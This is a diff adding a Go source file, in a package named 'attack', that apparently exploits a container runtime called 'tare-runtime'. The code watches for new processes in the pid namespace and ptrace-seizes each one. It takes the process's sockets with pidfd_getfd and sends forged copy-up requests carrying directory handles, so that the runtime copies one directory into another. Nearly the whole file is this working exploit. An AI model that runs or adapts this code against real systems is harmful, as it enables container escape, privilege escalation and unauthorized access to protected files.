@@ -1,0 +1,74 @@
+package attack
+
+import (
+	"encoding/binary"
+	"fmt"
+	"runtime"
+	"strconv"
+
+	"golang.org/x/sys/unix"
+)
+
+// copyUpKind is the kind of record by which a process that tare-runtime sets up asks it to copy a directory into another one.
+const copyUpKind = 5
+
+// orders takes the socket between the runtime and each process that appears in the pid namespace, and asks over it for a copy of
+// the directory from into the directory to. It prints "sent" for each.
+func orders(from, to string) error {
+	runtime.LockOSThread()
+	var dirs [2]int
+	for i, path := range []string{from, to} {
+		var err error
+		if dirs[i], err = unix.Open(path, unix.O_PATH|unix.O_DIRECTORY|unix.O_CLOEXEC, 0); err != nil {
+			return err
+		}
+	}
+	last, err := lastPID()
+	if err != nil {
+		return err
+	}
+	fmt.Println("watching")
+	for {
+		for pid := last + 1; pid <= last+ahead; pid++ {
+			if unix.Access("/proc/self/task/"+strconv.Itoa(pid), 0) == nil { // a thread of this process
+				last = pid
+				break
+			}
+			pidfd, err := unix.PidfdOpen(pid, 0)
+			if err != nil {
+				continue
+			}
+			last = pid
+			if unix.PtraceSeize(pid) == nil {
+				unix.PtraceInterrupt(pid)
+				sendOrders(pidfd, dirs)
+				unix.Wait4(pid, nil, unix.WALL, nil)
+				unix.PtraceDetach(pid)
+			}
+			unix.Close(pidfd)
+			break
+		}
+	}
+}
+
+// sendOrders sends the request over every connected socket of a process.
+func sendOrders(pidfd int, dirs [2]int) {
+	var record [16]byte // kind, and three numbers that this kind does not use
+	binary.NativeEndian.PutUint32(record[:], copyUpKind)
+	for n := 3; n < 64; n++ {
+		s, err := unix.PidfdGetfd(pidfd, n, 0)
+		if err != nil {
+			continue
+		}
+		if _, err := unix.GetsockoptInt(s, unix.SOL_SOCKET, unix.SO_DOMAIN); err == nil {
+			ok := true
+			for _, d := range dirs {
+				ok = unix.Sendmsg(s, record[:], unix.UnixRights(d), nil, unix.MSG_NOSIGNAL|unix.MSG_DONTWAIT) == nil && ok
+			}
+			if ok {
+				fmt.Println("sent")
+			}
+		}
+		unix.Close(s)
+	}
+}
